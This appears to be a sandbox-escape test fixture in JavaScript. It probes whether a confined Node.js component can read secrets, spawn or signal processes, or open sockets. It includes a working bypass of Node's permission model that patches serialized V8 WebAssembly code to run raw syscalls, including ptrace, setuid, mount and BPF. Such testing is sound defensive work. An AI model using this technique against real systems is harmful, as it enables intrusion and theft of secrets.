// Attempts of a component that got past the harness and past Node's permission model: all modules of Node, and machine
// code of its own. V8 hands out the code that it compiled for WebAssembly and takes it back unseen, changed or not.
// Each line of the answer is an attack that worked; nothing is printed for one that failed.
import { spawnSync } from 'node:child_process'
import {
  existsSync,
  readdirSync,
  readFileSync,
  realpathSync,
  writeFileSync,
  writeSync,
} from 'node:fs'
import { connect, createServer } from 'node:net'
import { setFlagsFromString } from 'node:v8'

const [secret, socket, written, port, abstract, victim] = process.argv.slice(1)
const say = (line) => writeSync(1, `${line}\n`)

function attack(what, does) {
  try {
    if (does() !== false) say(what)
  } catch {}
}
attack('read the secret', () => readFileSync(secret))
attack('learned that a path exists', () => realpathSync(secret))
attack('found other files', () => readdirSync('/').join() !== 'lib,lib64,node')
attack('wrote a file', () => writeFileSync(written, ''))
attack('found /proc', () => existsSync('/proc'))
attack('has an environment', () => Object.keys(process.env).length > 0)
attack('signalled a process', () => process.kill(Number(victim), 0))
attack('started a process', () => spawnSync('/bin/true').status === 0)

const settled = (emitter, event) =>
  new Promise((resolve) => {
    emitter.once(event, () => resolve(true))
    emitter.once('error', () => resolve(false))
  })
for (const to of [{ port }, { path: socket }, { path: `\0${abstract}` }]) {
  if (await settled(connect(to), 'connect')) say(`connected to a ${Object.keys(to)}`)
}
if (await settled(createServer().listen(`${written}.socket`), 'listening'))
  say('listened on the host')

if (process.arch === 'x64') {
  const [call, poke] = compile([
    // rax, rdx, rcx, rbx, r9 are the parameters: mov rdi, rdx; mov rsi, rcx; mov rdx, rbx; mov r10, r9; syscall
    [0x48, 0x89, 0xd7, 0x48, 0x89, 0xce, 0x48, 0x89, 0xda, 0x4d, 0x89, 0xca, 0x0f, 0x05],
    // mov [rax], rdx
    [0x48, 0x89, 0x10],
  ])
  const system = (number, ...values) =>
    call(BigInt(number), ...[0, 1, 2, 3].map((at) => BigInt(values[at] ?? 0)))
  const heap = system(12)
  system(12, heap + 65_536n)
  const text = (value) => {
    const bytes = Buffer.alloc(8 * Math.ceil((value.length + 1) / 8))
    bytes.write(value)
    for (let at = 0; at < bytes.length; at += 8)
      poke(heap + BigInt(at), bytes.readBigUInt64LE(at), 0n, 0n, 0n)
    return heap
  }
  const native = (what, ...args) => {
    if (system(...args) >= 0n) say(`${what} by machine code`)
  }
  if (system(39) === BigInt(process.pid)) say('ran machine code')
  native('opened the secret', 2, text(secret))
  native('opened /proc', 2, text('/proc/self/environ'))
  native('opened the secret from here', 257, -100, text(`../../../..${secret}`))
  for (const family of [1, 2, 10, 16, 17]) native(`made a socket ${family}`, 41, family, 1)
  native('traced a process', 101, 16, victim)
  native('read a process', 310, victim)
  native('signalled a process', 62, victim)
  native('made a user namespace', 272, 0x1000_0000)
  native('mounted', 165, text('tmpfs'), text('/lib'), text('tmpfs'))
  native('became root', 105, 0)
  native('reached the keys of the kernel', 250, 0, -3, 1)
  native('loaded BPF', 321, 0)
}
say('end')
process.exit()

/** Functions of five numbers that run these bytes of machine code, and return rax. */
function compile(codes) {
  for (const flag of ['allow-natives-syntax', 'no-liftoff', 'no-wasm-lazy-compilation'])
    setFlagsFromString(`--${flag}`)
  setFlagsFromString('--no-wasm-native-module-cache')
  const marks = codes.map((_, at) => 0x11_22_33_44_55_66_77_01n + BigInt(at))
  const module = wasmWith(marks)
  const serialize = new Function('module', 'return %SerializeWasmModule(module)')
  const compiled = Buffer.from(serialize(new WebAssembly.Module(module)))
  codes.forEach((code, at) => {
    const mark = Buffer.alloc(8)
    mark.writeBigUInt64LE(marks[at])
    // Behind the prologue, before the constant is loaded. Then: mov rsp, rbp; pop rbp; ret
    const end = [0x48, 0x89, 0xec, 0x5d, 0xc3]
    Buffer.from([...code, ...end]).copy(compiled, compiled.indexOf(mark) - 6)
  })
  const deserialize = new Function('code', 'bytes', 'return %DeserializeWasmModule(code, bytes)')
  const changed = deserialize(new Uint8Array(compiled).buffer, module)
  return Object.values(new WebAssembly.Instance(changed).exports)
}

/** Functions that store constants, each of which can be found in its code. */
function wasmWith(marks) {
  const bodies = marks.map((mark) => {
    const stores = [0, 1, 2, 3].flatMap((at) => [
      ...[0x41, at * 8, 0x42, ...leb(mark + (BigInt(at) << 16n))],
      ...[0x37, 3, 0],
    ])
    const body = [0, ...stores, 0x42, 0, 0x0b]
    return [body.length, ...body]
  })
  const section = (id, ...content) => [id, content.length, ...content]
  const count = marks.length
  return new Uint8Array([
    ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
    ...section(1, 1, 0x60, 5, 0x7e, 0x7e, 0x7e, 0x7e, 0x7e, 1, 0x7e),
    ...section(3, count, ...marks.map(() => 0)),
    ...section(5, 1, 0, 1),
    ...section(7, count, ...marks.flatMap((_, at) => [1, 0x61 + at, 0, at])),
    ...[10, ...leb(BigInt(bodies.flat().length + 1)), count, ...bodies.flat()],
  ])
}

/** Signed LEB128, of numbers that are not negative. */
function leb(value) {
  const bytes = []
  for (let rest = value; ; rest >>= 7n) {
    const byte = Number(rest & 0x7fn)
    if (rest < 0x40n) return [...bytes, byte]
    bytes.push(byte | 0x80)
  }
}
